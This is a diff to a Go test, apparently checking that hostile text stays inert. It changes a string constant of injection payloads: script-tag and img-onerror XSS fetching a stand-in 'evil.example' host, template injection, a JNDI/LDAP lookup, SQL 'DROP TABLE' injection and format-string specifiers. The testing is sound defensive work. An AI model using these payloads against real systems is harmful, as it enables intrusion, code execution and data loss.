@@ -105,7 +105,7 @@ func TestEventWithoutLength(t *testing.T) {
 // as the text that it is, on either side, and is in no log.
 func TestHostileTextIsInert(t *testing.T) {
 	t.Parallel()
-	const hostile = `<script>alert(1)</script> <img src=x onerror="fetch('//evil.example')"> {{7*7}} ${jndi:ldap://evil} '; DROP TABLE links;-- ‮` + "\u200b" + ` %s%n`
+	const hostile = `<script>alert(1)</script> <img src=x onerror="fetch('//evil.example')"> {{7*7}} ${jndi:ldap://evil} '; DROP TABLE links;-- ` + "\u202e\u200b" + ` %s%n`
 	w := newWorld(t, 1, options{})
 	a := w.plan("Repair", 1, "R1")
 	w.settle()
